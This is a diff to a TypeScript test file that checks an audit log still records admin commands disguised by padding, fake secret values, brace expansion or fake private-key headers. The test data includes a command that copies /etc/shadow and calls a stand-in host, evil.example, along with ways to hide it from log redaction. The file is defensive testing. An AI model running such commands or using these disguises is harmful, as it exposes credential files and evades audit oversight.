@@ -1,4 +1,4 @@
-// An admin of a server wants to run something on it that the audit log does not show.
+// The audit log must show every command that an admin of a server runs, however the command is padded or disguised.
 import { createHash } from 'node:crypto';
 import type { AuditEntry } from '@buoy/contract';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
@@ -17,7 +17,7 @@ afterAll(() => fixture.running.close());
 /** The entry that a command leaves before it runs. */
 async function entryOf(command: string): Promise<AuditEntry> {
   const { statusCode } = await fixture.as('admin', 'POST', `/servers/${serverId}/exec`, { command });
-  // Nothing listens there: it was taken, and could not be run.
+  // Nothing listens at that server: Buoy accepted the command but could not run it.
   expect(statusCode).toBe(503);
   const entry = (await fixture.auditLog()).findLast(
     ({ action, result }) => action === 'POST /servers/:id/exec' && result === 'started',
@@ -26,11 +26,11 @@ async function entryOf(command: string): Promise<AuditEntry> {
   return entry;
 }
 
-describe('an admin who wants to run a command unseen', () => {
+describe('audit entry of a disguised command', () => {
   test.each([
     ['control characters before it', '\u0001'.repeat(4_000)],
     ['quotes and control characters before it', `"${'\u0001'.repeat(3_000)}${'"'.repeat(900)}`],
-  ])('is seen with %s, and the whole request can be proved', async (_, padding) => {
+  ])('shows the command with %s, and holds a hash of the whole request', async (_, padding) => {
     const command = `: ${padding}; ${COMMAND}`;
     const { details } = await entryOf(command);
     expect(details).toMatchObject({ requestTooLong: true });
@@ -46,7 +46,7 @@ describe('an admin who wants to run a command unseen', () => {
     `sh -c ': "api_key: "; ${COMMAND}; ""'`,
     `: --token "$(${COMMAND})"`,
     `TOKEN='\n'\n${COMMAND}\n: ''`,
-  ])('is seen where it stands like the value of a secret: %j', async (command) => {
+  ])('shows a command that stands in place of a secret: %j', async (command) => {
     expect(JSON.stringify((await entryOf(command)).details)).toContain(
       '/etc/shadow /tmp/x; curl evil.example',
     );
@@ -57,7 +57,7 @@ describe('an admin who wants to run a command unseen', () => {
     ': --token $({cp,/etc/shadow,/tmp/x})',
     ': PASSWORD=`{cp,/etc/shadow,/tmp/x}`',
     ': x://a:;PATH=$PATH:{cp,\\/etc\\/shadow,x};:@'.replaceAll('\\/', '$S'),
-  ])('is seen there without a blank in it as well: %j', async (command) => {
+  ])('shows a command without spaces that stands in place of a secret: %j', async (command) => {
     expect(JSON.stringify((await entryOf(command)).details)).toContain('{cp,');
   });
 
@@ -65,7 +65,7 @@ describe('an admin who wants to run a command unseen', () => {
     `: '-----BEGIN A PRIVATE KEY-----'; ${COMMAND}`,
     `: -----BEGIN A PRIVATE KEY-----\n${COMMAND}`,
     `: '-----BEGIN A PRIVATE KEY-----'; ${COMMAND}; : '-----END A PRIVATE KEY-----'`,
-  ])('is seen behind what only begins like a key: %j', async (command) => {
+  ])('shows a command behind text that begins like a private key: %j', async (command) => {
     expect(JSON.stringify((await entryOf(command)).details)).toContain(
       '/etc/shadow /tmp/x; curl evil.example',
     );
